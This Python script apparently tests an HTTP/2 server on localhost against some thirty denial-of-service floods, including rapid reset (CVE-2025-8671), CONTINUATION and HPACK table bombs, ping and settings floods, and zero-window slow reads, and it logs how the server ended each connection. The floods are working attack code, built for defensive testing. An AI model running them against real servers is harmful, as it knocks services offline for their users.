# SPDX-License-Identifier: Apache-2.0
"""Runs as an agent: frames of HTTP/2 that cost more than they should, each flood on a connection of
its own, until it is ended or all was said. Prints, one JSON object a line, how it ended: the code of
a GOAWAY, "closed", or "went on" with how many requests were answered. Arguments: the port, and that
of a server with endless answers and WebSockets."""
import json
import select
import socket
import struct
import sys
import time

from attacks import DATA, GOAWAY, HEADERS, PREFACE, RST, SETTINGS, frame
from hpack import Encoder

PORT = int(sys.argv[1])
PRIORITY, PUSH, PING, WINDOW, CONTINUATION = 2, 5, 6, 8, 9
END, END_HEADERS = 1, 4
MANY = 20_000


def head(path="/x", method="POST", more=()):
    fields = [(":method", method), (":scheme", "http"), (":authority", f"127.0.0.1:{PORT}"),
              (":path", path), *more]
    return Encoder().encode(fields, huffman=False)


def opened(stream, flags=END_HEADERS, **kwargs):
    return frame(HEADERS, flags, stream, head(**kwargs))


def window(stream, by):
    return frame(WINDOW, 0, stream, struct.pack(">I", by))


def setting(key, value):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", key, value))


def streams(each, count=MANY):
    """What is said of each stream of very many."""
    return (each(2 * i + 1) for i in range(count))


def again(data, count=MANY, first=b""):
    yield first
    for _ in range(count // 50):
        yield data * 50


def bomb():
    """Each stream says a large field, that is in the table, very often."""
    packer = Encoder()
    block = packer.encode([(":method", "GET"), (":scheme", "http"), (":path", "/x"),
                           (":authority", f"127.0.0.1:{PORT}"), ("x", "a" * 3900)], huffman=False)
    yield frame(HEADERS, END_HEADERS | END, 1, block)
    for i in range(1, 300):
        parts = [b"\xbe" * 16_000] * 6
        yield frame(HEADERS, END, 2 * i + 1, head()[:0] + parts[0])
        for part in parts[1:-1]:
            yield frame(CONTINUATION, 0, 2 * i + 1, part)
        yield frame(CONTINUATION, END_HEADERS, 2 * i + 1, parts[-1])


FLOODS = {
    # Those that make the other side reset streams (CVE-2025-8671), and its older sister.
    "reset": lambda: streams(lambda s: opened(s) + frame(RST, 0, s, b"\0\0\0\10")),
    "window-zero": lambda: streams(lambda s: opened(s) + window(s, 0)),
    "window-over": lambda: streams(lambda s: opened(s) + window(s, 0x7fffffff)),
    "data-behind-the-end": lambda: streams(
        lambda s: opened(s, END | END_HEADERS) + frame(DATA, 0, s, b"x")),
    "head-behind-the-end": lambda: streams(
        lambda s: opened(s, END | END_HEADERS) + opened(s, END | END_HEADERS)),
    "length": lambda: streams(lambda s: opened(s, more=[("content-length", "1")]) +
                              frame(DATA, 0, s, b"xx")),
    "no-length": lambda: streams(lambda s: opened(s, END | END_HEADERS,
                                                  more=[("content-length", "1")])),
    "bad-fields": lambda: streams(lambda s: opened(s, more=[("X-Upper", "1")])),
    "on-itself": lambda: streams(lambda s: opened(s) + frame(
        PRIORITY, 0, s, struct.pack(">IB", s, 1))),
    "padding": lambda: again(frame(DATA, 8, 1, b"\xff" + b"\0" * 255), first=opened(1)),
    "refused": lambda: streams(lambda s: opened(s, path="/admin")),
    # Those that carry nothing.
    "ping": lambda: again(frame(PING, 0, 0, b"12345678"), 5 * MANY),
    "ping-answer": lambda: again(frame(PING, 1, 0, b"12345678"), 5 * MANY),
    "settings": lambda: again(frame(SETTINGS, 0, 0), 5 * MANY),
    "settings-answer": lambda: again(frame(SETTINGS, 1, 0), 5 * MANY),
    "settings-window": lambda: again(setting(4, 0) + setting(4, 1 << 30), 5 * MANY),
    "settings-table": lambda: again(setting(1, 0) + setting(1, 1 << 31), 5 * MANY),
    "settings-unknown": lambda: again(frame(SETTINGS, 0, 0, struct.pack(">HI", 99, 1) * 2700)),
    "priority": lambda: again(frame(PRIORITY, 0, 3, b"\0\0\0\0\1"), 5 * MANY),
    "unknown": lambda: again(frame(99, 0, 0, b"x"), 5 * MANY),
    "goaway": lambda: again(frame(GOAWAY, 0, 0, b"\0" * 8), 5 * MANY),
    "push": lambda: again(frame(PUSH, END_HEADERS, 1, b"\0\0\0\2"), first=opened(1)),
    "empty-data": lambda: again(frame(DATA, 0, 1), 5 * MANY, opened(1)),
    "reset-idle": lambda: again(frame(RST, 0, 1001, b"\0\0\0\0")),
    "window-idle": lambda: again(window(1001, 1)),
    "continuation": lambda: again(frame(CONTINUATION, 0, 1, b"\x40\1a\1b"), first=frame(
        HEADERS, 0, 1, head())),
    "continuation-empty": lambda: again(frame(CONTINUATION, 0, 1), first=frame(
        HEADERS, 0, 1, head())),
    "table": bomb,
    "cookies": lambda: iter([opened(1, more=[("cookie", "a")] * 20_000)]),
    "large-frame": lambda: iter([frame(DATA, 0, 1, b"x" * 100_000)]),
}


def run(chunks, patience=6):
    """As much as it may say, and reads nothing but to see the end."""
    with socket.create_connection(("127.0.0.1", PORT), timeout=patience) as peer:
        said, got, whole = PREFACE + frame(SETTINGS, 0, 0), b"", True
        try:
            for chunk in chunks:
                said += chunk
                if len(said) > 60_000:
                    peer.sendall(said)
                    said = b""
            peer.sendall(said + frame(PING, 0, 0, b"the-last"))
        except TimeoutError:
            whole = False
        except ConnectionError:
            pass
        return outcome(peer, got, whole, patience)


def outcome(peer, got, whole, patience):
    until, answers = time.monotonic() + patience, 0
    while time.monotonic() < until:
        while len(got) >= 9 and len(got) >= 9 + int.from_bytes(got[:3], "big"):
            size, kind = int.from_bytes(got[:3], "big"), got[3]
            payload, got = got[9:9 + size], got[9 + size:]
            answers += kind == HEADERS
            if kind == GOAWAY and payload[4:8] != b"\0\0\0\0":
                return f"goaway {int.from_bytes(payload[4:8], 'big')}"
            if kind == PING and payload == b"the-last":
                return f"went on {answers}"
        if not select.select([peer], [], [], 0.2)[0]:
            continue
        try:
            data = peer.recv(1 << 16)
        except ConnectionError:
            return "closed"
        if not data:
            return "closed"
        got += data
    return "silent" if whole else "stopped"


def slow():
    """Windows of one octet, and a hundred endless answers: who reads nothing keeps nothing."""
    with socket.create_connection(("127.0.0.1", PORT), timeout=20) as peer:
        asked = b"".join(opened(2 * i + 1, END | END_HEADERS, path="/endless", method="GET")
                         for i in range(100))
        peer.sendall(PREFACE + setting(4, 1) + asked)
        took = pongs()
        print(json.dumps({"name": "slow", "outcome": "waits", "pings": took}), flush=True)
        sys.stdin.readline()


def pongs():
    """Pings in a WebSocket whose stream has no window for their answers; how many are taken, in
    octets, before the other side waits."""
    ping = b"\x89\xfd\0\0\0\0" + b"p" * 125
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as peer:
        peer.sendall(PREFACE + setting(4, 0) + frame(HEADERS, END_HEADERS, 1, head(
            "/chat", "CONNECT", [(":protocol", "websocket"), ("sec-websocket-version", "13")])))
        got, windows, said, opened_up = b"", {0: 65535, 1: 65535}, 0, False
        while said < 64 << 20:
            room = min(windows.values()) // len(ping) if opened_up else 0
            if room:
                data = ping * min(room, 16384 // len(ping))
                peer.sendall(frame(DATA, 0, 1, data))
                windows = {k: v - len(data) for k, v in windows.items()}
                said += len(data)
                continue
            try:
                data = peer.recv(65536)
            except TimeoutError:
                break
            if not data:
                return -1
            got += data
            while len(got) >= 9 and len(got) >= 9 + int.from_bytes(got[:3], "big"):
                size, kind, stream = int.from_bytes(got[:3], "big"), got[3], got[8]
                payload, got = got[9:9 + size], got[9 + size:]
                opened_up = opened_up or kind == HEADERS
                if kind == WINDOW:
                    windows[stream] += int.from_bytes(payload, "big")
                if kind == SETTINGS:
                    for at in range(0, size, 6):
                        key, value = struct.unpack(">HI", payload[at:at + 6])
                        if key == 4:
                            windows[1] += value - 65535
        return said


if __name__ == "__main__":
    for name, flood in FLOODS.items():
        begun = time.monotonic()
        print(json.dumps({"name": name, "outcome": run(flood()),
                          "seconds": round(time.monotonic() - begun, 1)}), flush=True)
    PORT = int(sys.argv[2])
    slow()
